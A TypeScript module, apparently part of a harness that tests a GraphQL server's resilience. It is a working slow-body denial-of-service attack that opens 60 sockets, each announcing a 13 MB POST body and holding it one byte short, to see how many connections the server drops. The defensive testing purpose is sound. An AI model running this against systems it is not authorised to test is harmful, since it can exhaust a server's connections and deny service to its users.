import net from 'node:net';
import { setTimeout } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { measure } from './support/measure.ts';
import type { Row } from './support/print-rows.ts';
import type { Target } from './support/target.ts';

const bodies = 60;
const bytes = 13 * 1024 * 1024;
const seconds = 30;

/** Starts bodies that lack their last byte, and returns how many are still open at the end. */
async function leaveUnfinished({ url }: Target, authorization: string | null): Promise<Row> {
  const { hostname, port, host } = new URL(url);
  const head = [
    'POST /graphql HTTP/1.1',
    `host: ${host}`,
    'content-type: application/json',
    `content-length: ${bytes}`,
    ...(authorization ? [`authorization: ${authorization}`] : []),
  ].join('\r\n');
  let open = 0;
  let closedAfter = 0;
  const began = performance.now();
  const sockets = Array.from({ length: bodies }, () => {
    const socket = net.connect(Number(port), hostname);
    open += 1;
    socket.on('error', () => {});
    socket.resume();
    socket.once('close', () => {
      open -= 1;
      closedAfter = performance.now() - began;
    });
    socket.write(`${head}\r\n\r\n`);
    socket.write(Buffer.alloc(bytes - 1, ' '));
    return socket;
  });
  await setTimeout(seconds * 1000);
  const row = { 'still open': open, 'last closed after s': Math.round(closedAfter / 100) / 10 };
  for (const socket of sockets) socket.destroy();
  return row;
}

/** Bodies that are started and never finished. */
export const attack: Attack = {
  says: `${bodies} bodies of ${bytes / 1024 / 1024} MB that lack their last byte, for ${seconds} s`,
  under: { 'outside the sandbox': {} },
  run: async (target) => [
    await measure(target, 'alone', () => setTimeout(10_000)),
    await measure(target, 'from a visitor', () => leaveUnfinished(target, null)),
    await measure(target, 'from somebody signed in', () =>
      leaveUnfinished(target, `Bearer ${target.token}`),
    ),
    await measure(target, 'afterwards', () => setTimeout(10_000)),
  ],
};
